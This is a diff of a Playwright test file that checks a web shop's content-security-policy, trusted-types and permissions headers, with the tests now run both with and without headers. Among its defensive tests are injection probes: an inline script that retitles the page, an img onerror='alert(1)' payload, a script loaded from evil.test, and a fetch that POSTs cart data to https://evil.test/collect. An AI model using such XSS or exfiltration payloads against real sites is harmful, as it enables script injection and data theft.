@@ -33,71 +33,15 @@ test('every file has security headers and the right cache lifetime', async ({ pa
       'cache-control': path === '/' ? 'no-cache' : 'public, max-age=31536000, immutable',
     });
   }
-});
 
-test('injected scripts and styles are blocked', async ({ page, shop }) => {
-  await page.route(`${shop.url}/`, async (route) => {
-    const response = await route.fetch();
-    const injected = '<script>document.title = "taken over"</script><style>#root { display: none }</style>';
-    await route.fulfill({
-      response,
-      body: (await response.text()).replace('</body>', `${injected}</body>`),
-    });
+  const allowed = await page.evaluate(() => {
+    const { featurePolicy } = document as unknown as { featurePolicy: { allowedFeatures: () => string[] } };
+    return featurePolicy.allowedFeatures();
   });
-  await page.goto(shop.url);
-  await expect(page.getByRole('heading', { name: 'BEST SELLING' })).toBeVisible();
-  await expect(page).not.toHaveTitle('taken over');
-  await expectRefusals(
-    shop,
-    /Violation of script-src-elem: inline/,
-    /Executing inline script violates/,
-    /Violation of style-src-elem: inline/,
-    /Applying inline style violates/,
-  );
-});
-
-test('markup from strings and scripts from other hosts are blocked', async ({ page, shop }) => {
-  await page.goto(shop.url);
-  const refusals = await page.evaluate(() => {
-    const attempts = [
-      () => {
-        document.body.innerHTML = '<img src="x" onerror="alert(1)">';
-      },
-      () => {
-        document.createElement('script').src = 'https://evil.test/script.js';
-      },
-    ];
-    return attempts.map((attempt) => {
-      try {
-        attempt();
-        return 'done';
-      } catch (error) {
-        return error instanceof TypeError ? 'refused' : String(error);
-      }
-    });
-  });
-  expect(refusals).toEqual(['refused', 'refused']);
-  await expectRefusals(
-    shop,
-    /Violation of require-trusted-types-for/,
-    /requires 'TrustedHTML' assignment/,
-    /requires 'TrustedScriptURL' assignment/,
-  );
-});
-
-test('requests to unknown hosts are blocked', async ({ page, shop }) => {
-  await page.goto(shop.url);
-  await expect(page.getByRole('heading', { name: 'BEST SELLING' })).toBeVisible();
-  const outcome = await page.evaluate(() =>
-    fetch('https://evil.test/collect', { method: 'POST', body: 'cart' }).catch((error: Error) => error.name),
-  );
-  expect(outcome).toBe('TypeError');
-  await expectRefusals(
-    shop,
-    /Violation of connect-src: https:\/\/evil\.test\/collect/,
-    /Connecting to 'https:\/\/evil\.test\/collect' violates/,
-    /Fetch API cannot load/,
-  );
+  expect(allowed).toContain('clipboard-write');
+  for (const denied of ['camera', 'clipboard-read', 'hid', 'payment', 'serial', 'usb']) {
+    expect(allowed).not.toContain(denied);
+  }
 });
 
 test('other sites cannot show the shop in a frame', async ({ page, shop }) => {
@@ -106,34 +50,116 @@ test('other sites cannot show the shop in a frame', async ({ page, shop }) => {
   await expectRefusals(shop, /^Framing .* violates .* "frame-ancestors 'none'"/);
 });
 
-test('the payment script is allowed and opens the payment page', async ({ page, shop }) => {
-  const paymentPage = 'https://checkout.stripe.com/c/pay/';
-  // Without a URL in the response, the shop redirects with the provider's script.
-  shop.services.checkout.faults.add({ body: { id: 'cs_test_1' } });
-  await page.route('https://js.stripe.com/basil/stripe.js', (route) =>
-    route.fulfill({
-      contentType: 'text/javascript',
-      body: `window.Stripe = () => ({
-        redirectToCheckout: async ({ sessionId }) => {
-          location.assign('${paymentPage}' + sessionId);
-          return {};
-        },
+for (const sendsHeaders of [true, false]) {
+  test.describe(`on a host that sends ${sendsHeaders ? 'the headers' : 'no headers'}`, () => {
+    test.use({ sendsHeaders });
+
+    test('injected scripts and styles are blocked', async ({ page, shop }) => {
+      await page.route(`${shop.url}/`, async (route) => {
+        const response = await route.fetch();
+        const injected =
+          '<script>document.title = "taken over"</script><style>#root { display: none }</style>';
+        await route.fulfill({
+          response,
+          body: (await response.text()).replace('</body>', `${injected}</body>`),
+        });
       });
-      window.Stripe.version = 'basil';`,
-    }),
-  );
-  await page.route(`${paymentPage}*`, (route) =>
-    route.fulfill({
-      contentType: 'text/html',
-      body: '<link rel="icon" href="data:,"><h1>Hosted checkout</h1>',
-    }),
-  );
-  await page.goto(shop.url);
-  await buyFirstOf(page, 'women');
-  await signInToPay(page);
-  await expect(page.getByRole('heading', { name: 'Hosted checkout' })).toBeVisible();
-  expect(page.url()).toBe(`${paymentPage}cs_test_1`);
-});
+      await page.goto(shop.url);
+      await expect(page.getByRole('heading', { name: 'BEST SELLING' })).toBeVisible();
+      await expect(page).not.toHaveTitle('taken over');
+      await expectRefusals(
+        shop,
+        /Violation of script-src-elem: inline/,
+        /Executing inline script violates/,
+        /Violation of style-src-elem: inline/,
+        /Applying inline style violates/,
+      );
+    });
+
+    test('markup from strings and scripts from other hosts are blocked', async ({ page, shop }) => {
+      await page.goto(shop.url);
+      const refusals = await page.evaluate(() => {
+        const attempts = [
+          () => {
+            document.body.innerHTML = '<img src="x" onerror="alert(1)">';
+          },
+          () => {
+            document.createElement('script').src = 'https://evil.test/script.js';
+          },
+          () => {
+            const { trustedTypes } = window as unknown as {
+              trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
+            };
+            trustedTypes.createPolicy('unknown', { createHTML: (html: string) => html });
+          },
+        ];
+        return attempts.map((attempt) => {
+          try {
+            attempt();
+            return 'done';
+          } catch (error) {
+            return error instanceof TypeError ? 'refused' : String(error);
+          }
+        });
+      });
+      expect(refusals).toEqual(['refused', 'refused', 'refused']);
+      await expectRefusals(
+        shop,
+        /Violation of require-trusted-types-for/,
+        /requires 'TrustedHTML' assignment/,
+        /requires 'TrustedScriptURL' assignment/,
+        /Violation of trusted-types/,
+        /policy named 'unknown' violates|Creating a TrustedTypePolicy/,
+      );
+    });
+
+    test('requests to unknown hosts are blocked', async ({ page, shop }) => {
+      await page.goto(shop.url);
+      await expect(page.getByRole('heading', { name: 'BEST SELLING' })).toBeVisible();
+      const outcome = await page.evaluate(() =>
+        fetch('https://evil.test/collect', { method: 'POST', body: 'cart' }).catch(
+          (error: Error) => error.name,
+        ),
+      );
+      expect(outcome).toBe('TypeError');
+      await expectRefusals(
+        shop,
+        /Violation of connect-src: https:\/\/evil\.test\/collect/,
+        /Connecting to 'https:\/\/evil\.test\/collect' violates/,
+        /Fetch API cannot load/,
+      );
+    });
+
+    test('the payment script is allowed and opens the payment page', async ({ page, shop }) => {
+      const paymentPage = 'https://checkout.stripe.com/c/pay/';
+      // Without a URL in the response, the shop redirects with the provider's script.
+      shop.services.checkout.faults.add({ body: { id: 'cs_test_1' } });
+      await page.route('https://js.stripe.com/basil/stripe.js', (route) =>
+        route.fulfill({
+          contentType: 'text/javascript',
+          body: `window.Stripe = () => ({
+            redirectToCheckout: async ({ sessionId }) => {
+              location.assign('${paymentPage}' + sessionId);
+              return {};
+            },
+          });
+          window.Stripe.version = 'basil';`,
+        }),
+      );
+      await page.route(`${paymentPage}*`, (route) =>
+        route.fulfill({
+          contentType: 'text/html',
+          body: '<link rel="icon" href="data:,"><h1>Hosted checkout</h1>',
+        }),
+      );
+      await page.goto(shop.url);
+      await buyFirstOf(page, 'women');
+      await signInToPay(page);
+      await expect(page.getByRole('heading', { name: 'Hosted checkout' })).toBeVisible();
+      expect(page.url()).toBe(`${paymentPage}cs_test_1`);
+    });
+  });
+}
 
 test('a message needs no style that the policy would block', async ({ page, shop }) => {
   await page.goto(`${shop.url}/#/collections/women`);
@@ -147,8 +173,9 @@ test('a message needs no style that the policy would block', async ({ page, shop
   expect(added).toBe(0);
 });
 
-test.describe('in a folder of a host', () => {
-  test.use({ basePath: '/shop/' });
+// Hosts read `_headers` only at their root.
+test.describe('in a folder of a host, without headers', () => {
+  test.use({ basePath: '/shop/', sendsHeaders: false });
 
   test('a shopper can buy from a shop in a subfolder', async ({ page, shop }) => {
     await page.goto(`${shop.url}/`);
